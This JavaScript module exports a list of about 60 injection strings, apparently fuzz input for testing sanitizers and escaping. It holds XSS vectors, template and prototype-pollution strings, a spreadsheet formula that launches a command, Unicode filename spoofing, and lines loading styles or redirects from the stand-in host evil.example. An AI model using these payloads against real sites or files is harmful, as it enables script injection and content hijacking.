// Texts that become script, markup or a formula where they are not taken for text: 60 of them.

const EVENTS = ["onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter"];

export const PAYLOADS = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "'><svg/onload=alert(1)>",
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\u00adscript:alert(1)", "data:text/html,<script>alert(1)</script>",
  "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
  "<math><a xlink:href=javascript:alert(1)>x", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
  "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
  "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><button>x", "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
  "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "__proto__", "constructor", "toString",
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)",
  "\u202egnp.exe", "\u2066\u2069\u200b\u200d\ufeff", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<ScRiPt>alert(1)</sCrIpT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  ...EVENTS.map((event) => `<p ${event}=alert(1) tabindex=0 style=animation:x>x</p>`),
];
